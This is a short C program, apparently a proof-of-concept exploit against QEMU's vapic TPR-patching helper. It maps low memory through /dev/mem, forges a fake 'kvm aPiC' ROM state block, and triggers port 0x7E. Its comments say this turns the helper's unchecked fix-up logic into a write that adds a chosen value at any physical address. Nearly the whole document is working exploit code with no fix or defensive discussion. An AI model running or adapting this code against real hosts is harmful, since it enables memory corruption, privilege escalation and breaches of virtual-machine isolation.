/* SPDX-License-Identifier: MIT */
/*
 * vapic TARGET NUMBER: makes QEMU's TPR-patching helper (port 7Eh) add NUMBER to the 4 bytes at TARGET.
 *
 * The helper trusts a "ROM state" block that it finds by the caller's instruction pointer, checks it by
 * its own walk of the caller's page tables (never the nested ones), and then applies the block's fix-ups
 * to physical memory. So: a low page mapped at its own address, a forged block in it, code beside it.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#define PLACE	     0x60000u /* of the forged ROM: low memory, which /dev/mem lets root map */
#define STATE_OFFSET 0x40u
#define LIST_OFFSET  0xc0u
#define CODE_OFFSET  0x100u

struct rom_state {
	char signature[8];
	uint32_t virtual_address, fixup_start, fixup_end;
	uint32_t rest[16];
};

int main(int argc, char **argv)
{
	/* mov dx, 7Eh; mov ax, STATE_OFFSET; out dx, ax; out dx, al; ret */
	static const uint8_t code[] = {0x66, 0xba, 0x7e, 0x00, 0x66, 0xb8, STATE_OFFSET, 0x00,
				       0x66, 0xef, 0xee, 0xc3};
	struct rom_state state = {.signature = "kvm aPiC"};
	uint32_t target, number, offset;
	uint8_t *rom;
	int memory = open("/dev/mem", O_RDWR);

	if (argc != 3) {
		fprintf(stderr, "usage: vapic TARGET NUMBER (hexadecimal)\n");
		return 2;
	}
	target = (uint32_t)strtoul(argv[1], NULL, 16);
	number = (uint32_t)strtoul(argv[2], NULL, 16);
	rom = mmap((void *)(uintptr_t)PLACE, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
		   MAP_SHARED | MAP_FIXED, memory, PLACE);
	if (memory < 0 || rom == MAP_FAILED || ioperm(0x7e, 2, 1) < 0) {
		perror("vapic");
		return 1;
	}
	memset(rom, 0, 512);
	rom[2] = 1; /* blocks of 512 bytes */
	state.virtual_address = PLACE + STATE_OFFSET - number;
	/* Positions count from virtual_address; the one entry of the list holds the target's distance. */
	state.fixup_start = state.virtual_address + LIST_OFFSET - STATE_OFFSET;
	state.fixup_end = state.fixup_start + 4;
	memcpy(rom + STATE_OFFSET, &state, sizeof(state));
	offset = target - (PLACE + STATE_OFFSET);
	memcpy(rom + LIST_OFFSET, &offset, 4);
	memcpy(rom + CODE_OFFSET, code, sizeof(code));
	((void (*)(void))(rom + CODE_OFFSET))();
	printf("done\n");
	return 0;
}
